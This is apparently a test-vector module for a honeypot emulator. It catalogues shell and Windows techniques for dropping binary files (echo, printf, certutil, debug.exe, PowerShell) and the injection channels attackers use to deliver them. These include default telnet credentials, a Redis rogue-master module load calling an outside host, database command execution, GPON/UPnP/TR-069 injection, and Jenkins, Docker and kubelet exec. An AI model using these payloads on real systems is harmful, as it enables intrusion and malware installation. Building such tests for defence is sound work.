"""Files that are put together by commands: the ways of the two shells, and who lets an attacker at one.

    way(data, step) --lines--> carrier(line) --> the room

A way is lines that make a file of bytes; a carrier is a room that runs lines. Every way is tried where one types, and
one way at every carrier, for behind them all stands the same shell.
"""

# ruff: noqa: E501 -- a row is a line

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Callable, Iterator
from random import Random
from typing import TypeAlias
from urllib.parse import quote_from_bytes

from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols.kubelet.node import node_of
from eudaemon.protocols.ssh import fields
from eudaemon.protocols.ssh.fields import message, number
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from protocols import adb_client, mssql_client, mysql_client, postgres_client, ssh_client
from vectors.vector import MOST, Attack, Vector

Run: TypeAlias = Callable[[bytes], object]
Way: TypeAlias = "Callable[[bytes, Random, int], Iterator[bytes]]"  # data, dice, most bytes of it in one line

HOST = Host.from_seed(Seed(b"test"))
ROUTER = Host.from_seed(Seed(b"test"), persona="router")
PAIRS = [b"\\x%02x" % byte for byte in range(256)]
OCTAL = [b"\\%03o" % byte for byte in range(256)]
F = b"/tmp/f"


def steps(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """Yield pieces of odd lengths, few of them where there is much."""
    at = 0
    most = min(most, len(data) // 3 + 1)
    least = 1 if len(data) < 10_000 else most // 2
    while at < len(data):
        step = dice.randint(least, most)
        yield data[at : at + step]
        at += step


def escaped(piece: bytes, codes: list[bytes]) -> bytes:
    return b"".join(map(codes.__getitem__, piece))


# --- POSIX: what a loader of today types ----------------------------------------------------------------


def _posix(template: bytes, code: Callable[[bytes], bytes], grows: int) -> Way:
    def way(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
        yield b"> " + F
        for piece in steps(data, dice, max(1, (most - len(template)) // grows)):
            yield template % code(piece)

    return way


def _base64_in_a_document(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    yield from (b"base64 -d > %s <<EOF" % F, *base64.encodebytes(data).splitlines(), b"EOF")


def _text_in_a_document(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    yield from (b"cat > %s <<'EOF'" % F, *data.splitlines(), b"EOF")


def _dd(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """Each piece to its own place, as exploits do that may write only so much at a time."""
    at = 0
    for piece in steps(data, dice, min(512, most // 4)):
        line = b"printf '%s' | dd of=%s bs=1 seek=%d conv=notrunc 2>/dev/null"
        yield line % (escaped(piece, OCTAL), F, at)
        at += len(piece)


def _decoded_at_the_end(decoder: bytes, code: Callable[[bytes], bytes]) -> Way:
    def way(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
        for piece in steps(code(data), dice, most - 40):
            yield b"echo -n %s >> %s.txt" % (piece, F)
        yield decoder % (F, F)

    return way


def _parts(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """Files that are put together: a part each, then `cat`."""
    names = []
    for count, piece in enumerate(steps(data, dice, max(1, min(len(data) // 9 + 1, (most - 40) // 4)))):
        names.append(b"/tmp/p%03d" % count)
        yield b"echo -ne '%s' > %s" % (escaped(piece, PAIRS), names[-1])
    yield b"cat %s > %s; rm %s" % (b" ".join(names), F, b" ".join(names))


def _hex(data: bytes) -> bytes:
    return data.hex().encode()


POSIX: dict[str, Way] = {
    "echo -ne": _posix(b"echo -ne '%b' >> " + F, lambda piece: escaped(piece, PAIRS), 4),
    "echo -e and \\c": _posix(b"echo -e '%b\\c' >> " + F, lambda piece: escaped(piece, PAIRS), 4),
    "busybox echo, octal": _posix(
        b"/bin/busybox echo -en '%b' >> " + F, lambda p: escaped(p, [b"\\0" + c[1:] for c in OCTAL]), 5
    ),
    "printf": _posix(b"printf '%b' >> " + F, lambda piece: escaped(piece, OCTAL), 4),
    "echo | base64 -d": _posix(b"echo %b | base64 -d >> " + F, base64.b64encode, 2),
    "echo | xxd -r -p": _posix(b"echo %b | xxd -r -p >> " + F, _hex, 2),
    "echo | tee -a": _posix(b"echo -ne '%b' | tee -a " + F + b" >/dev/null", lambda piece: escaped(piece, PAIRS), 4),
    "printf | dd seek=": _dd,
    "base64 -d <<EOF": _base64_in_a_document,
    "base64 -d of a file": _decoded_at_the_end(b"base64 -d %s.txt > %s", base64.b64encode),
    "xxd -r of a file": _decoded_at_the_end(b"xxd -r -p %s.txt > %s", _hex),
    "cat of a file | base64 -d": _decoded_at_the_end(b"cat %s.txt | base64 -d > %s", base64.b64encode),
    "cat of parts": _parts,
}
TEXTS: dict[str, Way] = {"cat <<EOF": _text_in_a_document}

# --- typed behind a command that reads the terminal -----------------------------------------------------

CTRL_D, CTRL_V = b"\x04", b"\x16"
KEYS = [CTRL_V + bytes((byte,)) if byte < 32 or byte == 127 else bytes((byte,)) for byte in range(256)]
KEYS[10] = b"\n"


def _base64_typed(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    lines = (base64.b64encode(data[at : at + 3000]) for at in range(0, len(data), 3000))  # as long as N_TTY takes them
    yield from (b"base64 -d > %s" % F, *lines, CTRL_D)


def _text_typed(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    yield from (b"cat > %s" % F, *data.splitlines(), CTRL_D)


def _read_by_line(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    yield from (b'while read -r l; do echo "$l" >> %s; done' % F, *data.splitlines(), CTRL_D)


def _keys_typed(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """Bytes of every value: those that are keys are typed behind Ctrl-V, and two Ctrl-D end a line that has no end."""
    yield b"cat > %s" % F
    *lines, last = escaped(data, KEYS).split(b"\n")
    yield from lines
    yield last + 2 * CTRL_D


TYPED: dict[str, Way] = {"base64 -d >, typed": _base64_typed}
TEXTS_TYPED: dict[str, Way] = {"cat >, typed": _text_typed, "while read, typed": _read_by_line}
KEYS_TYPED: dict[str, Way] = {"cat >, typed with Ctrl-V": _keys_typed}


def _copy_con(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    yield from (b"copy con %sf.txt" % T, *data.splitlines(), b"\x1a")


WINDOWS_TYPED: dict[str, Way] = {"copy con, typed": _copy_con}

# --- Windows --------------------------------------------------------------------------------------------

T = b"C:\\Windows\\Temp\\"


def _certutil(verb: bytes, code: Callable[[bytes], bytes]) -> Way:
    def way(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
        for piece in steps(code(data), dice, most - 60):
            yield b">>%sf.txt echo %s" % (T, piece)
        yield b"certutil -f %s %sf.txt %sf.exe" % (verb, T, T)
        yield T + b"f.exe"

    return way


def _debug(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """A script for debug.exe, as the worms of 2004 wrote it."""
    file = T + b"s.txt"
    yield b"cd /d " + T
    yield b"echo n f.bin>%s" % file
    at = 0x100
    for piece in steps(data, dice, 128):
        yield b"echo e %04x %s>>%s" % (at, piece.hex(" ").encode(), file)
        at += len(piece)
    for line in (b"r cx", b"%04x" % (len(data) & 0xFFFF), b"r bx", b"%04x" % (len(data) >> 16), b"w", b"q"):
        yield b"echo %s>>%s" % (line, file)
    yield b"debug<%s" % file
    yield b"copy f.bin f.exe"
    yield b"f.exe"


def _powershell(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    for piece in steps(data, dice, (most - 200) * 3 // 4):
        yield (b'powershell -c "$b=[Convert]::FromBase64String(\'%s\');Add-Content -Encoding Byte -Value $b -Path %sf.exe"'
               % (base64.b64encode(piece), T))  # fmt: skip


def _write_all_bytes(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    encoded = base64.b64encode(data)
    for piece in steps(encoded, dice, most - 60):
        yield b"<nul set /p =%s>>%sf.b64" % (piece, T)
    yield (b'powershell -c "[IO.File]::WriteAllBytes(\'%sf.exe\',[Convert]::FromBase64String('
           b"[IO.File]::ReadAllText('%sf.b64')))\"" % (T, T))  # fmt: skip


def _lines(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    for line in data.splitlines():
        yield b"echo %s>>%sf.txt" % (line, T)


def _copied(data: bytes, dice: Random, most: int) -> Iterator[bytes]:
    """`copy /b a+b c`, of parts that certutil has decoded."""
    half = len(data) // 2
    for name, part in ((b"a", data[:half]), (b"b", data[half:])):
        for piece in steps(base64.b64encode(part), dice, most - 60):
            yield b">>%s%s.txt echo %s" % (T, name, piece)
        yield b"certutil -f -decode %s%s.txt %s%s.bin" % (T, name, T, name)
        yield b"del %s%s.txt" % (T, name)
    yield b"copy /b /y %sa.bin+%sb.bin %sf.exe" % (T, T, T)


WINDOWS: dict[str, Way] = {
    "echo and certutil -decode": _certutil(b"-decode", base64.b64encode),
    "echo and certutil -decodehex": _certutil(b"-decodehex", _hex),
    "echo and debug.exe": _debug,
    "PowerShell Add-Content": _powershell,
    "PowerShell WriteAllBytes": _write_all_bytes,
    "copy /b": _copied,
}
WINDOWS_TEXTS: dict[str, Way] = {"echo of lines": _lines}

# --- carriers -------------------------------------------------------------------------------------------


def telnet(attack: Attack) -> Run:
    line = attack.table("telnet", host=ROUTER)
    line.say(b"root\r\nxc3511\r\n")

    def run(text: bytes) -> None:
        line.say(text + b"\r\n")
        line.forget()

    return run


def adb(attack: Attack) -> Run:
    client = adb_client.Client(table=attack.table("adb", host=adb_client.HOSTS["6.0.1"], port=5555)).connect()
    stream = client.open(b"shell:")

    def run(text: bytes) -> None:
        client.write(stream, text.replace(b"/tmp/", b"/data/local/tmp/") + b"\n")
        client.came[stream] = b""

    return run


def ssh(attack: Attack) -> Run:
    client = ssh_client.logged_in(attack.table("ssh", host=HOST))
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"shell")

    def run(text: bytes) -> None:
        for at in range(0, len(text) + 1, 8000):  # within the window
            client.data(channel, (text + b"\n")[at : at + 8000])
        client.forget()
        client.send(message(fields.CHANNEL_WINDOW_ADJUST, number(channel), number(len(text) + 100)))  # of the echo

    return run


def ssh_commands(attack: Attack) -> Run:
    client = ssh_client.logged_in(attack.table("ssh", host=HOST))
    return client.run


def catchall(attack: Attack) -> Run:
    line = attack.table("catchall")
    line.say(b"cd /tmp || cd /var/run; ".ljust(70) + b"\n")
    return lambda text: line.say(text + b"\n")


def _posted(
    room: str, path: bytes, body: Callable[[bytes], bytes], head: bytes = b"", **more: object
) -> Callable[[Attack], Run]:
    """A command in the body of a request."""

    def carrier(attack: Attack) -> Run:
        line = attack.table(room, **more)

        def run(text: bytes) -> None:
            data = body(text)
            line.say(b"POST %s HTTP/1.1\r\nHost: a\r\n%sContent-Length: %d\r\n\r\n%s" % (path, head, len(data), data))
            line.wait(1)
            line.forget()

        return run

    return carrier


def _quoted(text: bytes) -> bytes:
    return quote_from_bytes(text).encode()


def _soap(action: bytes, argument: bytes) -> Callable[[bytes], bytes]:
    def body(text: bytes) -> bytes:
        inner = text.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")
        return (b'<?xml version="1.0"?><s:Envelope><s:Body><u:%s xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
                b"<%s>`%s`</%s></u:%s></s:Body></s:Envelope>" % (action, argument, inner, argument, action))  # fmt: skip

    return body


def _action(name: bytes) -> bytes:
    return b"SOAPAction: urn:schemas-upnp-org:service:%s\r\n" % name


def _gpon(text: bytes) -> bytes:
    return b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`%s`&ipv=0" % _quoted(text)


def _groovy(text: bytes) -> bytes:
    inner = text.replace(b"\\", b"\\\\").replace(b"'", b"\\'")
    return b"script=" + _quoted(b"['sh','-c','%s'].execute().text" % inner)


def _yarn(text: bytes) -> bytes:
    return json.dumps(
        {"application-id": "application_1_1", "am-container-spec": {"commands": {"command": text.decode()}}}
    ).encode()


def _pod() -> bytes:
    pod = node_of(HOST).pods[0]
    return f"/run/{pod.namespace}/{pod.name}/{pod.container}".encode()


def docker(attack: Attack) -> Run:
    line = attack.table("docker", host=HOST, port=2375, memory=Memory())

    def ask(path: bytes, body: dict[str, object]) -> bytes:
        data = json.dumps(body).encode()
        said = line.say(b"POST %s HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n%s" % (path, len(data), data))
        line.wait(0.5)
        line.forget()
        return said

    created = ask(b"/containers/create", {"Image": "alpine", "Cmd": ["sh"]})
    ask(b"/images/create?fromImage=alpine", {})
    created = created if b" 201 " in created else ask(b"/containers/create", {"Image": "alpine", "Cmd": ["sh"]})
    name = json.loads(created.partition(b"\r\n\r\n")[2])["Id"].encode()

    def run(text: bytes) -> None:
        made = ask(b"/containers/%s/exec" % name, {"Cmd": ["sh", "-c", text.decode()], "AttachStdout": False})
        ask(b"/exec/%s/start" % json.loads(made.partition(b"\r\n\r\n")[2])["Id"].encode(), {"Detach": True})

    return run


def redis(attack: Attack) -> Run:
    line = attack.table("redis", host=HOST)
    line.say(b"SLAVEOF 198.51.100.7 21000\r\nCONFIG SET dbfilename exp.so\r\n")
    line.answer("ok", b"\x7fELF")
    line.say(b"MODULE LOAD ./exp.so\r\n")

    def run(text: bytes) -> None:
        line.say(b"*2\r\n$11\r\nsystem.exec\r\n$%d\r\n%s\r\n" % (len(text), text))
        line.wait(1)

    return run


def postgres(attack: Attack) -> Run:
    client = postgres_client.Client(attack.table("postgres", host=HOST))
    client.do(b"create table c(o text)")

    def run(text: bytes) -> None:
        client.do(b"copy c from program '%s'" % text.replace(b"'", b"''"))
        client.table.wait(1)

    return run


def mysql(attack: Attack) -> Run:
    client = mysql_client.Client(attack.table("mysql", host=HOST))
    client.do(b"select 0x7f454c46 into dumpfile '/tmp/u.so'")
    client.do(b"create function sys_eval returns string soname 'u.so'")

    def run(text: bytes) -> None:
        client.do(b"select sys_eval(0x%s)" % text.hex().encode())
        client.table.wait(1)

    return run


def mssql(attack: Attack) -> Run:
    client = mssql_client.Client(attack.table("mssql", host=HOST, port=1433))
    client.do(mssql_client.SWITCHED_ON)

    def run(text: bytes) -> None:
        client.do(b"exec xp_cmdshell '%s'" % text.replace(b"'", b"''"))
        client.table.wait(1)

    return run


def mssql_ole(attack: Attack) -> Run:
    client = mssql_client.Client(attack.table("mssql", host=HOST, port=1433))
    client.do(mssql_client.SWITCHED_ON)

    def run(text: bytes) -> None:
        client.do(b"declare @o int exec sp_oacreate 'wscript.shell', @o out exec sp_oamethod @o, 'run', null, 'cmd /c %s' "
                  b"exec sp_oadestroy @o" % text.replace(b"'", b"''"))  # fmt: skip
        client.table.wait(1)

    return run


def opened(room: str, ends: bytes) -> Callable[[Attack], Run]:
    """A shell that stands open, as a shellcode leaves it."""

    def carrier(attack: Attack) -> Run:
        line = attack.table(room, host=HOST)

        def run(text: bytes) -> None:
            line.say(text + ends)
            line.forget()

        return run

    return carrier


def to_the_end(attack: Attack, data: bytes) -> None:
    """What a command reads at the end of a pipe: bytes as they are, until nothing more comes."""
    line = attack.table("sh", host=HOST)
    line.say(b"cd /tmp\ncat > f\n" + data)
    line.tell(HalfClosed(line.at_s))


def vnc(attack: Attack) -> Run:
    """Typed at the desktop, key by key, into a window of cmd.exe."""
    line = attack.table("vnc", host=HOST)
    from protocols.test_every_room import vnc_login

    line.say(b"RFB 003.008\n")
    for data in (*vnc_login(), b"\1"):
        line.say(data)

    def tap(*keys: int) -> bytes:
        return b"".join(struct.pack(">BBxxI", 4, down, key) for key in keys for down in (1, 0))

    line.say(struct.pack(">BBxxI", 4, 1, 0xFFEB) + tap(ord("r")) + struct.pack(">BBxxI", 4, 0, 0xFFEB))

    def run(text: bytes) -> None:
        line.say(tap(*text, 0xFF0D))

    run(b"cmd")
    return run


# Of these there is no file before the last line.
ENCODED = {
    "base64 -d <<EOF", "base64 -d of a file", "xxd -r of a file", "cat of a file | base64 -d", "cat <<EOF",
    "echo and certutil -decode", "echo and certutil -decodehex", "echo and debug.exe", "PowerShell WriteAllBytes",
    "typed, certutil", "WScript.Shell, certutil", "base64 -d >, typed",
}  # fmt: skip
CARRIERS: tuple[tuple[str, Callable[[Attack], Run], int], ...] = (
    ("ssh", ssh, 60_000),
    ("adb", adb, 60_000),
    ("catchall", catchall, 8000),
    ("sh", opened("sh", b"\n"), 60_000),
    ("docker", docker, 24_000),
    ("redis", redis, 60_000),
    ("postgres", postgres, 60_000),
    ("mysql", mysql, 60_000),
    ("kubelet", _posted("kubelet", _pod(), lambda text: b"cmd=" + _quoted(text), host=HOST, port=10250, tls=True), 30_000),
    ("http", _posted("http", b"/GponForm/diag_Form?images/", _gpon), 30_000),
    ("tr069", _posted("tr069", b"/UD/act?1", _soap(b"SetNTPServers", b"NewNTPServer1"), _action(b"Time:1#SetNTPServers")), 30_000),
    ("upnp", _posted("upnp", b"/picsdesc.xml", _soap(b"AddPortMapping", b"NewInternalClient"), _action(b"WANIPConnection:1#AddPortMapping"), port=52869), 30_000),
    ("jenkins", _posted("jenkins", b"/scriptText", _groovy, port=8080), 60_000),
    ("yarn", _posted("yarn", b"/ws/v1/cluster/apps", _yarn, b"Content-Type: application/json\r\n", port=8088), 30_000),
)  # fmt: skip
_FEW_REQUESTS = {
    "http": (65_536, "100 requests a connection"),
    "docker": (1_500_000, "1,000 requests a connection, two a command"),
}
# What a way cannot take, and why.
NOT_LARGE = {
    "cat of parts": (1_500_000, "512 artefacts a session, of which each part is one"),
    "cat of a file | base64 -d": (1_500_000, "a pipe holds 4 MiB"),
    "xxd -r of a file": (1_500_000, "text and file together are more than a session may hold"),
    "echo and certutil -decodehex": (1_500_000, "text and file together are more than a session may hold"),
    "echo and debug.exe": (65_536, "one segment"),
    "PowerShell WriteAllBytes": (1_500_000, "one command reads and writes 16 MiB"),
    "echo of lines": (65_536, "one line a batch, 10,000 messages a session"),
}


def rows() -> Iterator[Vector]:
    """Yield the rows."""
    yield from _typed("telnet", telnet, POSIX, 60_000)
    yield from _typed("telnet", telnet, TEXTS, 60_000, bytes_min=64, text_ends=b"\n")
    yield from _typed("telnet", telnet, TYPED, 60_000)
    yield from _typed("telnet", telnet, TEXTS_TYPED, 60_000, bytes_min=64, text_ends=b"\n", broken="partial")
    yield from _typed("ssh", ssh, KEYS_TYPED, 60_000, broken="partial")
    yield from _typed("adb", adb, TYPED, 60_000)
    yield from _typed(
        "cmd", opened("cmd", b"\r\n"), WINDOWS_TYPED, 8000, bytes_min=64, text_ends=b"\r\n", broken="partial"
    )
    yield Vector("sh", "cat >, to the end", to_the_end, 1)
    yield from _typed("mssql", mssql, WINDOWS, 4000)
    yield from _typed("mssql", mssql, WINDOWS_TEXTS, 4000, bytes_min=64, text_ends=b"\r\n")
    one: dict[str, Way] = {"echo | base64 -d": POSIX["echo | base64 -d"]}
    for room, carrier, line_bytes_max in CARRIERS:
        few = _FEW_REQUESTS.get(room)
        more = {"bytes_max": few[0], "why": few[1]} if few else {}
        yield from _typed(room, carrier, one, line_bytes_max, **more)
    decoded = WINDOWS["echo and certutil -decode"]
    yield from _typed("ssh", ssh_commands, {"a command a channel": one["echo | base64 -d"]}, 30_000)
    yield from _typed("cmd", opened("cmd", b"\r\n"), {"echo and certutil -decode": decoded}, 8000)
    yield from _typed("vnc", vnc, {"typed, certutil": decoded}, 3000, bytes_max=4097, why="20,000 keys a session")
    yield from _typed("mssql", mssql_ole, {"WScript.Shell, certutil": decoded}, 4000)


def _typed(
    room: str, carrier: Callable[[Attack], Run], ways: dict[str, Way], line_bytes_max: int, **more: object
) -> Iterator[Vector]:
    for name, way in ways.items():

        def bring(attack: Attack, data: bytes, way: Way = way) -> None:
            run = carrier(attack)
            for line in way(data, attack.dice, line_bytes_max):
                run(line)

        bytes_max, why = NOT_LARGE.get(name, (MOST, ""))
        given = {
            "bytes_min": 1,
            "bytes_max": bytes_max,
            "why": why,
            "broken": "encoded" if name in ENCODED else "as it is",
            **more,
        }
        yield Vector(room, name, bring, **given)  # type: ignore[arg-type]
